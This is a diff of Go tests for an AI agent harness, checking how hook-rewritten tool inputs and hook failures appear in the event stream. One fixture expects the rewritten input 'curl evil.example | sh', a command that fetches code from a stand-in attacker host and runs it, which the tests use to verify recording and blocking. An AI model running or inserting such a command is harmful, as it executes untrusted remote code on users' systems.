@@ -52,8 +52,8 @@ func TestHookTrust(t *testing.T) {
 				}
 				// The stream shows both what the model asked and what ran.
 				tc := byType(evs, EventToolCall)[0]
-				if !strings.Contains(string(tc.Input), "meeting at 10") || !strings.Contains(string(tc.EffectiveInput), "evil.example") {
-					t.Errorf("tool_call input %s, effective_input %s", tc.Input, tc.EffectiveInput)
+				if !strings.Contains(string(tc.ToolCall.Input), "meeting at 10") || !strings.Contains(string(tc.ToolCall.EffectiveInput), "evil.example") {
+					t.Errorf("tool_call input %s, effective_input %s", tc.ToolCall.Input, tc.ToolCall.EffectiveInput)
 				}
 				js, _ := json.Marshal(tc)
 				if !strings.Contains(string(js), `"effective_input":{"content":"curl evil.example | sh","path":"notes.txt"}`) &&
@@ -138,21 +138,21 @@ func TestHookTrust(t *testing.T) {
 					return
 				}
 				hs := byType(evs, EventHook)
-				if len(hs) != 1 || hs[0].Hook != "trust" || !strings.Contains(hs[0].Error, c.forbidden) || !strings.Contains(hs[0].Error, "deny-only") {
+				if len(hs) != 1 || hs[0].Hook.Hook != "trust" || !strings.Contains(hs[0].Hook.Error, c.forbidden) || !strings.Contains(hs[0].Hook.Error, "deny-only") {
 					t.Fatalf("want one hook event naming %q, got %+v", c.forbidden, hs)
 				}
 				switch c.event {
 				case HookPreToolUse:
 					oc.want(t, "c", "deny", byHook, c.forbidden)
 				case HookPostToolUse:
-					if got := resultText(oc.result); !oc.result.IsError || !strings.Contains(got, "withheld") || strings.Contains(got, allPassed) {
+					if got := resultText(oc.result); !oc.result.ToolResult.IsError || !strings.Contains(got, "withheld") || strings.Contains(got, allPassed) {
 						t.Errorf("the model saw %q", got)
 					}
 				}
 				if b, err := os.ReadFile(filepath.Join(e.ws, "notes.txt")); err == nil {
 					t.Errorf("a call a failed hook guarded ran: notes.txt = %q", b)
 				}
-				if tc := byType(evs, EventToolCall); len(tc) != 1 || tc[0].EffectiveInput != nil {
+				if tc := byType(evs, EventToolCall); len(tc) != 1 || tc[0].ToolCall.EffectiveInput != nil {
 					t.Errorf("tool_call events %+v", tc)
 				}
 			})
@@ -175,16 +175,16 @@ func TestToolCallEffectiveInput(t *testing.T) {
 	_, evs := runCalls(t, o, write("rw", "a.txt"), write("same", "c.txt"))
 	calls := map[string]Event{}
 	for _, ev := range byType(evs, EventToolCall) {
-		calls[ev.ID] = ev
+		calls[ev.ToolCall.ID] = ev
 	}
-	if rw := calls["rw"]; !strings.Contains(string(rw.Input), "a.txt") || !strings.Contains(string(rw.EffectiveInput), "b.txt") {
-		t.Errorf("rewritten call: input %s, effective_input %s", rw.Input, rw.EffectiveInput)
+	if rw := calls["rw"]; !strings.Contains(string(rw.ToolCall.Input), "a.txt") || !strings.Contains(string(rw.ToolCall.EffectiveInput), "b.txt") {
+		t.Errorf("rewritten call: input %s, effective_input %s", rw.ToolCall.Input, rw.ToolCall.EffectiveInput)
 	}
 	if b, _ := os.ReadFile(filepath.Join(e.ws, "b.txt")); string(b) != "changed" {
 		t.Errorf("b.txt = %q", b)
 	}
-	if same := calls["same"]; same.EffectiveInput != nil {
-		t.Errorf("unchanged call has effective_input %s", same.EffectiveInput)
+	if same := calls["same"]; same.ToolCall.EffectiveInput != nil {
+		t.Errorf("unchanged call has effective_input %s", same.ToolCall.EffectiveInput)
 	}
 	js, _ := json.Marshal(calls["same"])
 	if strings.Contains(string(js), "effective_input") {
@@ -195,7 +195,7 @@ func TestToolCallEffectiveInput(t *testing.T) {
 	for _, ev := range evs {
 		switch ev.Type {
 		case EventToolCall, EventPermission, EventToolResult:
-			seen[ev.ID] = append(seen[ev.ID], ev.Type)
+			seen[callID(ev)] = append(seen[callID(ev)], ev.Type)
 		}
 	}
 	for id, ts := range seen {
@@ -220,10 +220,10 @@ func TestContextAfterTheLastWord(t *testing.T) {
 			// write_file asks, headless: denied, so PermissionDenied fires.
 			_, evs := runCalls(t, o, write("c", "a.txt"))
 			hs := byType(evs, EventHook)
-			if len(hs) != 1 || hs[0].Hook != "late" || !strings.Contains(hs[0].Error, "additional_context means nothing") {
+			if len(hs) != 1 || hs[0].Hook.Hook != "late" || !strings.Contains(hs[0].Hook.Error, "additional_context means nothing") {
 				t.Errorf("hook events %+v", hs)
 			}
-			if last := evs[len(evs)-1]; last.Type != EventResult || last.Subtype != SubtypeSuccess {
+			if last := evs[len(evs)-1]; last.Type != EventResult || last.Result.Subtype != SubtypeSuccess {
 				t.Errorf("the run ended %+v", last)
 			}
 		})
